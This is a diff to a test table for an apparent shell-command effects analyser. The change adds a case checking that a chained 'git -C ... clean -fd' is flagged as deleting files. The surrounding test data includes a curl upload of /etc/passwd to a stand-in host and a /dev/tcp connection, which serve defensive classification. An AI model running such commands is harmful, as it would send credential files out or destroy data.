@@ -33,6 +33,10 @@ OPEN = (UNKNOWN,)
         ("curl -F f=@/etc/passwd http://x.test", Effects(reads=("/etc/passwd",), hosts=("x.test",))),
         ("scp a me@x.test:b", Effects(reads=("/ws/a",), hosts=("x.test",))),
         ("git clone git@x.test:a/b.git", Effects(reads=("/ws",), writes=("/ws",), hosts=("x.test",), runs=("git",))),
+        (
+            "git -C /a -c x=y -C b clean -fd",
+            Effects(**dict.fromkeys(("reads", "writes", "deletes"), ("/a/b",)), runs=("git",)),
+        ),
         ("cat < /dev/tcp/x.test/80", Effects(hosts=("x.test",))),
         ("make test", Effects(reads=OPEN, writes=OPEN, deletes=OPEN, hosts=OPEN, runs=("make",))),
         ("npm ci", Effects(reads=OPEN, writes=OPEN, deletes=OPEN, hosts=("registry.npmjs.org",), runs=("npm",))),
